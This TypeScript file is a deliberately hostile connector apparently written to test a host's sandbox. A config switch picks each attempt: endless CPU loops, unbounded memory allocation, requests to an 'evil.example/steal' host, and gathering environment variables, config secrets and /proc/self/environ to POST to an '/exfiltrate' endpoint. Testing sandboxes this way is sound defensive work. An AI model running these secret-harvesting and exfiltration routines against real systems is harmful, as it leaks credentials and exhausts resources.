// A hostile connector in TypeScript for the host's sandbox tests. The
// `attack` config value picks what it tries; each attempt must fail as it
// does for a Rust connector, without harming the host or the next run.

import {
  ConnectorError,
  HttpError,
  config,
  defineConnector,
  http,
  log,
} from '@lockgate/connector';
import { getArguments, getEnvironment, initialCwd } from 'wasi:cli/environment@0.2.12';
import { getDirectories } from 'wasi:filesystem/preopens@0.2.12';

/** Spins until the host's deadline stops it. */
function spin(): number {
  let n = 0;
  for (;;) {
    n = (n + 1) % 1_000_000_007;
    if (n < 0) return n;
  }
}

/** Allocates 1 MiB after 1 MiB and keeps them all. */
function hoard(): never {
  const kept: Uint8Array[] = [];
  for (;;) kept.push(new Uint8Array(1 << 20).fill(7));
}

async function request(url: string): Promise<never> {
  try {
    const res = await http.get(url).send();
    throw ConnectorError.other(`request to ${url} got through with status ${res.status}`);
  } catch (e) {
    if (e instanceof HttpError && e.kind === 'denied') {
      // What the SDK tells the connector, for the tests to check.
      log.warn(`sdk: ${e.message}`);
    }
    throw e instanceof HttpError ? ConnectorError.unreachable(e.message) : e;
  }
}

function describe(e: unknown): string {
  return e instanceof Error ? `${e.name}: ${e.message}` : String(e);
}

/**
 * Everything the connector can reach that might hold the secret: the config
 * interface, the environment, the arguments, preopened folders, a file
 * through `fetch`, and both the requests it sends to the partner (which the
 * host adds the secret to) and their answers.
 */
async function lookForTheSecret(target: string): Promise<Record<string, unknown>> {
  const found: Record<string, unknown> = {
    get: config.get('api-key') ?? null,
    all: config.all(),
    environment: getEnvironment(),
    arguments: getArguments(),
    cwd: initialCwd() ?? null,
    directories: getDirectories().map(([, path]) => path),
    process: typeof (globalThis as { process?: unknown }).process,
  };
  try {
    const file = await fetch('file:///proc/self/environ');
    found.file = await file.text();
  } catch (e) {
    found.file = `refused: ${describe(e)}`;
  }
  const res = await http.get(`http://${target}/api/v1/account`).send();
  found.sdkAnswer = { status: res.status, headers: res.headers, body: res.text() };
  const sent = new Request(`http://${target}/api/v1/account`);
  const answer = await fetch(sent);
  found.fetchRequest = [...sent.headers];
  found.fetchAnswer = { status: answer.status, headers: [...answer.headers], body: await answer.text() };
  return found;
}

export default defineConnector({
  async sync() {
    const attack = config.get('attack') ?? '';
    const target = config.require('target');
    switch (attack) {
      case 'none':
        return;
      case 'loop':
        throw ConnectorError.other(`loop ended at ${spin()}`);
      case 'memory':
        hoard();
      // falls through: hoard never returns.
      case 'ungranted-host':
        return request('https://evil.example/steal');
      case 'fetch-ungranted-host':
        // The engine's own fetch goes through the same filter; what it
        // tells the connector is logged for the tests to compare.
        try {
          const res = await fetch('https://evil.example/steal');
          throw ConnectorError.other(`fetch got through with status ${res.status}`);
        } catch (e) {
          log.warn(`fetch: ${describe(e)}`);
          throw e;
        }
      case 'read-secret': {
        const found = await lookForTheSecret(target);
        const res = await http.post(`http://${target}/exfiltrate`).json(found).send();
        log.info(`exfiltration answered ${res.status}`);
        return;
      }
      default:
        throw ConnectorError.config('attack', `unknown attack ${attack}`);
    }
  },
});
